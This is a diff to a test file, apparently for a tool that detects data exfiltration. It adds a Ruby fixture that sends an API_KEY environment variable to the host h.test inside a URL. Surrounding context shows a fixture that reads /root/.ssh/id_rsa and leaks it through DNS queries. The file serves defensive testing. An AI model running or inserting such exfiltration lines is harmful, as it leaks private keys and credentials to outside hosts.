@@ -26,6 +26,12 @@ describe('what leaves', () => {
       'k = File.read("/root/.ssh/id_rsa")\nResolv::DNS.open { |dns| dns.getresources("#{k}.ns.h.test", TXT) }',
       'content:ssh dns:body ns.h.test',
     ],
+    // What an address takes in is put into its places.
+    [
+      'rb',
+      'to = "https://h.test/%s?k=%s" % [File.basename(dir), ENV["API_KEY"]]\nNet::HTTP.get(URI(to))',
+      'env:API_KEY network:url h.test',
+    ],
     // A helper makes the connection of an address in pieces.
     [
       'pl',
